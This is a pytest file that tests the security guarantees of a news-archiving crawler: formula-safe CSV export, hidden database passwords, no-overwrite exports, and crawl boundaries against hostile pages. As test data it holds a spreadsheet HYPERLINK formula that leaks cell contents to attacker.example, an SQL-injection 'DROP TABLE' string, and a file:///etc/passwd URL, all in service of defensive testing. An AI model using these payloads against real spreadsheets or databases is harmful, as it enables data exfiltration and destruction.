"""What the tool writes cannot harm whoever opens it, and what it is fed cannot steer it.

CSV cells that a spreadsheet would run as formulas are disarmed; a database password is never
shown; an export never overwrites a file unasked; any headline text round-trips exactly; a
hostile page cannot make the crawler fetch a non-HTTP(S) URL or leave the site.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from html import escape
from pathlib import Path
from urllib.parse import quote

import pytest
from scrapy import Request
from scrapy.exceptions import IgnoreRequest
from scrapy.utils.test import get_crawler

from newsarchive.cli import main
from newsarchive.cli.errors import CLIError
from newsarchive.crawl.api import project_settings
from newsarchive.middlewares.boundary import SiteBoundaryMiddleware
from newsarchive.storage import Archive
from newsarchive.views.export import FORMULA_START
from tests.faultserver import FaultServer, page, redirect
from tests.helpers import FAST, run_cli, run_crawl, story
from tests.sites import ARTICLE, PAGE, listing_html

PASSWORD = "s3cret-Pa55"
PG_URL = f"postgresql+psycopg://archivist:{PASSWORD}@127.0.0.1:1/news"


def export_rows(db: Path, fmt: str) -> str:
    """The export as written, read back without newline translation (a CR must stay a CR)."""
    out = db.with_name(f"export.{fmt}")
    assert main(["export", "--db", str(db), "--format", fmt, "--output", str(out), "--force"]) == 0
    return out.read_bytes().decode("utf-8")


@pytest.mark.parametrize("prefix", FORMULA_START)
def test_csv_export_disarms_every_formula_prefix(db_path: Path, prefix: str) -> None:
    hostile = f'{prefix}HYPERLINK("http://attacker.example/?leak="&A1,"Perú")'
    with Archive.open(str(db_path)) as archive:
        archive.write.store(
            archive.runs.begin([]),
            [story(1, headline=hostile, teaser=hostile, author=hostile, tag=hostile)],
        )
    (row,) = csv.DictReader(io.StringIO(export_rows(db_path, "csv"), newline=""))
    for field in ("headline", "teaser", "author", "tags"):
        assert row[field] == "'" + hostile
    (record,) = (json.loads(line) for line in export_rows(db_path, "jsonl").splitlines())
    assert record["headline"] == hostile  # JSON is data, not a spreadsheet: kept exact


@pytest.mark.parametrize("command", [["crawl", "http://127.0.0.1:1/tag/x/"], ["export", "--format", "csv"], ["db", "check"]])  # fmt: skip
@pytest.mark.parametrize(
    "url",
    [
        PG_URL,  # no driver installed, or no server listening: either way a clean error
        f"postgresql://archivist:{PASSWORD}@db.example.org:port/news",  # malformed
        f"sqlite://archivist:{PASSWORD}@//tmp/news.sqlite",  # SQLite takes no password
    ],
)
def test_database_password_never_shown(command: list[str], url: str) -> None:
    for result in (
        run_cli(*command, "--db", url),
        run_cli(*command, env={"NEWSARCHIVE_DB": url}),
    ):
        assert result.returncode == CLIError.DATABASE
        output = result.stdout + result.stderr
        assert PASSWORD not in output
        assert "Traceback" not in output
        (line,) = result.stderr.strip().splitlines()
        assert line.startswith("newsarchive: error: ")


def test_output_is_never_overwritten_without_force(db_path: Path, tmp_path: Path, cli) -> None:
    Archive.open(str(db_path)).close()
    target = tmp_path / "stories.csv"
    target.write_text("precious notes\n", encoding="utf-8")
    refused = cli("export", "--db", db_path, "--format", "csv", "--output", target)
    assert refused.returncode == CLIError.OUTPUT
    assert (
        refused.stderr.strip() == f"newsarchive: error: {target} exists (use --force to overwrite)"
    )
    assert target.read_text(encoding="utf-8") == "precious notes\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["archive.sqlite", "stories.csv"]
    forced = cli("export", "--db", db_path, "--format", "csv", "--output", target, "--force")
    assert forced.returncode == 0
    assert target.read_text(encoding="utf-8").startswith("url,headline,")


NASTY = "Robert'); DROP TABLE stories;-- \"Perú\" 'Bolivia' \\ 100% _x_ <b>&amp; \u2028 🙂"


def test_hostile_text_round_trips_exactly_in_storage_and_exports(db_path: Path) -> None:
    text = NASTY + " \x00\x07\x1b[31m\x7f end"
    with Archive.open(str(db_path)) as archive:
        archive.write.store(archive.runs.begin([]), [story(1, headline=text, teaser=text)])
        assert next(archive.read.iter_stories())["headline"] == text
    with sqlite3.connect(db_path) as conn:
        assert {name for (name,) in conn.execute("SELECT name FROM sqlite_master")} >= {"stories"}
    (record,) = (json.loads(line) for line in export_rows(db_path, "jsonl").splitlines())
    assert record["headline"] == record["teaser"] == text


def test_hostile_headline_crawled_is_stored_exactly(faults: FaultServer, tmp_path: Path) -> None:
    # Normalisation decodes entities and folds whitespace, so the crawled text has neither.
    text = "Robert'); DROP TABLE stories;-- \"Perú\" 'Bolivia' \\ 100% _x_ <b> & 🙂"
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    body = PAGE.format(tag="X", head="", nav="", articles=ARTICLE.format(url="/nasty/", headline=escaped + "\x07"))  # fmt: skip
    faults.route("/tag/x/", page(body))
    db = tmp_path / "a.sqlite"
    result = run_cli("crawl", faults.base + "/tag/x/", "--db", str(db), *FAST)
    assert result.returncode == 0, result.stderr
    with sqlite3.connect(db) as conn:
        # Control characters are dropped by normalisation (they are never news); the rest is exact.
        assert conn.execute("SELECT headline FROM stories").fetchall() == [(text,)]


def test_hostile_page_cannot_reach_other_schemes_or_hosts(
    faults: FaultServer, tmp_path: Path
) -> None:
    # Each bait, if fetched, would be a listing whose stories end up in the archive.
    bait = listing_html("X", ["bait-story"], None)
    local_file = tmp_path / "bait.html"
    local_file.write_text(bait, encoding="utf-8")
    data_url = "data:text/html," + quote(bait)
    faults.route("/bait/", page(bait))
    elsewhere = FaultServer("127.0.0.2")
    elsewhere.route("/bait/", page(bait))
    elsewhere.start()
    other_host = elsewhere.base + "/bait/"
    targets = {
        "file-link": local_file.as_uri(),
        "data-link": data_url,
        "ftp-link": "ftp://127.0.0.1/bait.html",
        "file-redirect": f"/redirect/?to={local_file.as_uri()}",
        "file-refresh": f"/refresh/?to={local_file.as_uri()}",
        "data-refresh": "/refresh/?to=" + data_url,
        "offsite-refresh": "/refresh/?to=" + other_host,
    }
    starts = []
    for name, target in targets.items():
        path = f"/tag/{name}/"
        if target.startswith("/redirect/"):
            faults.route(path + "page/2/", redirect(target.split("to=", 1)[1]))
            next_href = path + "page/2/"
        elif target.startswith("/refresh/"):
            refresh = (
                f'<meta http-equiv="refresh" content="0;url={escape(target.split("to=", 1)[1])}">'
            )
            faults.route(path + "page/2/", page(listing_html("X", [], None, head=refresh)))
            next_href = path + "page/2/"
        else:
            next_href = target
        faults.route(path, page(listing_html("X", [f"{name}-story"], next_href)))
        starts.append(faults.base + path)
    try:
        result = run_crawl(starts, tmp_path / "a.sqlite")
    finally:
        elsewhere.stop()
    assert "Traceback" not in result["log"]
    assert not elsewhere.hits("/bait/")
    with sqlite3.connect(tmp_path / "a.sqlite") as conn:
        urls = {url for (url,) in conn.execute("SELECT url FROM stories")}
    assert len(urls) == len(targets)
    assert not any("bait" in url for url in urls)
    assert not faults.hits("/bait/")


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "data:text/html,<p>x</p>", "ftp://127.0.0.1/x", "s3://b/k"]
)
def test_only_http_can_be_requested_at_all(url: str) -> None:
    """The last line of defence, whatever code someday yields such a request."""
    crawler = get_crawler()
    with pytest.raises(IgnoreRequest):
        SiteBoundaryMiddleware.from_crawler(crawler).process_request(Request(url))
    assert crawler.stats.get_value("newsarchive/refused/not_http") == 1
    scheme = url.split(":", 1)[0]
    assert project_settings().getdict("DOWNLOAD_HANDLERS")[scheme] is None
